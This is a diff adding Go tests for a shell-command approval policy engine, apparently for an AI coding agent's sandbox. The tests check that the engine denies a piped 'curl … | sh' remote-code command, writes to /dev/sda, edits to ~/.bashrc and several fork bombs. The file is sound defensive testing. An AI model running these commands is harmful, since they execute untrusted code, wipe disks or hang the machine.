@@ -1,0 +1,213 @@
+package policy
+
+import (
+	"strings"
+	"testing"
+)
+
+var testCtx = &Context{Workspace: "/home/u/proj", Cwd: "/home/u/proj", Home: "/home/u"}
+
+func mustPolicy(t *testing.T, js string) *Policy {
+	t.Helper()
+	p, err := ParseConfig("test.json", []byte(js))
+	if err != nil {
+		t.Fatalf("ParseConfig: %v", err)
+	}
+	return p
+}
+
+type verdict struct {
+	line   string
+	action Action
+	kind   string // the deciding rule's kind, "" for none
+}
+
+func checkVerdicts(t *testing.T, e *Engine, ctx *Context, cases []verdict) {
+	t.Helper()
+	for _, tc := range cases {
+		t.Run(tc.line, func(t *testing.T) {
+			d := e.DecideLine(ctx, tc.line)
+			kind := ""
+			if d.Rule != nil {
+				kind = d.Rule.Kind
+			}
+			if d.Action != tc.action || tc.kind != "" && kind != tc.kind {
+				t.Errorf("Decide(%q) = %v by %q, want %v by %q\n%+v", tc.line, d.Action, kind, tc.action, tc.kind, d.Commands)
+			}
+		})
+	}
+}
+
+func TestRuleOrder(t *testing.T) {
+	p := mustPolicy(t, `{"forgebox": {"rules": {
+		"allow": [{"pattern": "frob *"}, {"pattern": "mkfs.ext4 *"}, {"command": "sudo frob safe"}, {"pattern": "re:blorp (a|b)"},
+		          {"pattern": "Bash(npm run:*)", "scope": "session"}, {"pattern": "git push origin main"}],
+		"deny":  [{"pattern": "frob --evil*", "reason": "evil"}, {"pattern": "curl * | sh", "reason": "remote code"}],
+		"ask":   [{"pattern": "frob --careful", "risk": 4}, {"pattern": "git push *", "risk": 5}]}}}`)
+	e := New(p)
+	checkVerdicts(t, e, testCtx, []verdict{
+		{"frob x", Allow, "allow"},
+		{"frob", Allow, "allow"},
+		{"frobnicate", Ask, "threshold"},
+		{"frob --evil", Deny, "deny"},
+		{"frob --evil; frob x", Deny, "deny"},
+		{"frob --careful", Ask, "ask"},
+		// built-in forbidden beats an allow rule
+		{"echo x > /dev/sda", Deny, "builtin"},
+		{"frob x > /dev/sda", Deny, "builtin"},
+		// the allow rule covers one command, not the one beside it
+		{"frob x && echo x > /dev/sda", Deny, "builtin"},
+		{"frob x; sudo blorp", Ask, "threshold"},
+		// an allow rule does not cover the wrapper in front of it
+		{"sudo frob x", Ask, "threshold"},
+		{"sudo frob safe", Allow, "allow"},
+		// ...nor a redirection it does not name
+		{"frob x > ~/.bashrc", Ask, "threshold"},
+		{"frob x > out.txt", Allow, "allow"},
+		// regex patterns match the whole text
+		{"blorp a", Allow, "allow"},
+		{"blorp ab", Ask, "threshold"},
+		{"echo blorp a", Ask, ""},
+		// ask rules come before allow rules
+		{"git push origin main", Ask, "ask"},
+		// rules with operators match the pipeline
+		{"curl -fsSL https://x.example | sh", Deny, "deny"},
+		// a session-scoped allow asks once per session
+		{"npm run build", Ask, "allow"},
+	})
+	d := e.DecideLine(testCtx, "npm run build")
+	if !d.Offers(Session) || d.Offers(Always) {
+		t.Errorf("session-scoped allow offers %v, want once and session", d.Scopes)
+	}
+	rules := d.ApprovalRules("today")
+	if len(rules) != 1 || rules[0].Pattern != "Bash(npm run:*)" {
+		t.Fatalf("ApprovalRules = %+v, want the rule's pattern", rules)
+	}
+	ctx := *testCtx
+	ctx.Session = rules
+	checkVerdicts(t, e, &ctx, []verdict{{"npm run build", Allow, "allow"}, {"npm run test", Allow, "allow"}})
+}
+
+func TestThresholdsAndSession(t *testing.T) {
+	e := New(nil)
+	d := e.DecideLine(testCtx, "frobnicate --x")
+	if d.Action != Ask || d.Risk != 3 || d.Level != R1 || !d.Offers(Always) {
+		t.Fatalf("Decide(unknown) = %v risk %d %v scopes %v, want ask 3 R1 with always", d.Action, d.Risk, d.Level, d.Scopes)
+	}
+	ctx := *testCtx
+	ctx.Session = d.ApprovalRules("today")
+	if got := e.DecideLine(&ctx, "frobnicate --x").Action; got != Allow {
+		t.Errorf("after a session approval Decide = %v, want allow", got)
+	}
+	if got := e.DecideLine(&ctx, "frobnicate --y").Action; got != Ask {
+		t.Errorf("a session approval of one command allowed another: %v", got)
+	}
+	// R3 is asked every time: a session approval does not apply.
+	d = e.DecideLine(testCtx, "sudo frobnicate")
+	if d.Level != R3 || d.Offers(Session) || !d.Offers(Once) {
+		t.Fatalf("Decide(sudo) = %v scopes %v, want R3 once only", d.Level, d.Scopes)
+	}
+	ctx.Session = []Rule{{Command: "sudo frobnicate"}}
+	if got := e.DecideLine(&ctx, "sudo frobnicate").Action; got != Ask {
+		t.Errorf("a session approval applied to an R3 command: %v", got)
+	}
+}
+
+func TestCustomThresholds(t *testing.T) {
+	e := New(mustPolicy(t, `{"forgebox": {"riskThresholds": {"autoApprove": 3, "sessionApprove": 4, "alwaysAsk": 5, "block": 6}}}`))
+	checkVerdicts(t, e, testCtx, []verdict{
+		{"frobnicate", Allow, ""},
+		{"sudo frobnicate", Deny, "threshold"},
+	})
+}
+
+func TestTighten(t *testing.T) {
+	user := mustPolicy(t, `{"forgebox": {"rules": {"allow": [{"pattern": "frob *"}, {"pattern": "sudo frob"}]}}}`)
+	ws := mustPolicy(t, `{"forgebox": {"mode": "normal", "rules": {
+		"allow": [{"pattern": "mkfs *"}, {"pattern": "sudo *"}, {"pattern": "blorp"}],
+		"deny":  [{"pattern": "frob --no"}],
+		"ask":   [{"pattern": "frob --check", "risk": 1}, {"pattern": "sudo frob", "risk": 1}]},
+		"riskThresholds": {"autoApprove": 1, "sessionApprove": 5, "alwaysAsk": 7, "block": 8}}}`)
+	p, warnings := user.Tighten(ws)
+	if len(warnings) != 3 {
+		t.Errorf("Tighten warnings = %q, want one per ignored allow rule", warnings)
+	}
+	e := New(p)
+	checkVerdicts(t, e, testCtx, []verdict{
+		{"frob x", Allow, "allow"},
+		{"blorp", Ask, "threshold"},  // the workspace cannot allow
+		{"frob --no", Deny, "deny"},  // but it can deny
+		{"frob --check", Ask, "ask"}, // and make an allow ask
+		{"sudo frob", Ask, "ask"},    // the workspace's ask turns the user's allow into an ask
+		{"sudo frobnicate", Ask, "threshold"},
+	})
+	if p.Thresholds.AutoApprove != 1 {
+		t.Errorf("Tighten thresholds = %+v, want autoApprove lowered to 1", p.Thresholds)
+	}
+	// A workspace ask rule cannot turn a deny into an ask.
+	p, _ = Default().Tighten(mustPolicy(t, `{"forgebox": {"rules": {"ask": [{"pattern": "echo *", "risk": 1}, {"pattern": "sudo *", "risk": 1}]}}}`))
+	checkVerdicts(t, New(p), testCtx, []verdict{{"echo x > /dev/sda", Deny, "builtin"}, {"sudo frob", Ask, "threshold"}})
+	if d := New(p).DecideLine(testCtx, "sudo frob"); d.Level != R3 {
+		t.Errorf("a workspace ask rule lowered sudo frob to %v, want R3", d.Level)
+	}
+	p, _ = Default().Tighten(mustPolicy(t, `{"forgebox": {"mode": "allowlist"}}`))
+	if p.Mode != Allowlist {
+		t.Errorf("a workspace could not switch allowlist mode on")
+	}
+}
+
+func TestAllowlistMode(t *testing.T) {
+	e := New(mustPolicy(t, `{"forgebox": {"mode": "allowlist", "rules": {"allow": [{"pattern": "frob *"}]}}}`))
+	if d := e.DecideLine(testCtx, "frob x"); d.Action != Deny || d.Rule.Kind != "mode" {
+		t.Errorf("allowlist mode: DecideLine = %v, want deny by the mode (no shell)", d.Action)
+	}
+	if d := e.DecideArgv(testCtx, []string{"frob", "x"}); d.Action != Allow {
+		t.Errorf("allowlist mode: DecideArgv(frob x) = %v, want allow", d.Action)
+	}
+	if d := e.DecideArgv(testCtx, []string{"blorp"}); d.Action != Deny {
+		t.Errorf("allowlist mode: DecideArgv(blorp) = %v, want deny", d.Action)
+	}
+	if d := e.DecideArgv(testCtx, []string{"frob", "$(x)"}); d.Action != Allow {
+		t.Errorf("allowlist mode: an argv is not shell: DecideArgv(frob '$(x)') = %v, want allow", d.Action)
+	}
+}
+
+func TestFailClosed(t *testing.T) {
+	e := New(mustPolicy(t, `{"forgebox": {"rules": {"allow": [{"pattern": "*"}]}}}`))
+	nested := "frob"
+	for range MaxDepth + 2 {
+		nested = "bash -c " + quoteArgv([]string{nested})
+	}
+	for name, line := range map[string]string{
+		"unterminated quote": `frob 'x`,
+		"unterminated subst": `frob $(x`,
+		"syntax error":       `frob )`,
+		"NUL":                "frob \x00 x",
+		"too long":           strings.Repeat("a", MaxLineBytes+1),
+		"too deep":           nested,
+		"too many commands":  strings.Repeat("frob;", MaxCommands+1),
+		"deep brackets":      strings.Repeat("(", MaxNesting+1),
+		"computed program":   `$CMD x`,
+		"empty":              ``,
+	} {
+		t.Run(name, func(t *testing.T) {
+			d := e.DecideLine(testCtx, line)
+			if d.Action == Allow && name != "computed program" {
+				t.Errorf("Decide(%.40q) = allow, want ask or deny", line)
+			}
+		})
+	}
+	// The computed program is judged unknown-at-run-time; an allow-all
+	// rule the user wrote does allow it, but the default never does.
+	if d := New(nil).DecideLine(testCtx, "$CMD x"); d.Action == Allow {
+		t.Errorf("Decide($CMD x) = allow, want ask")
+	}
+}
+
+func TestForkBomb(t *testing.T) {
+	for _, line := range []string{":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f & f; }; f"} {
+		if d := New(nil).DecideLine(testCtx, line); d.Action != Deny || d.Category != Forbidden {
+			t.Errorf("Decide(%q) = %v %v, want deny forbidden", line, d.Action, d.Category)
+		}
+	}
+}
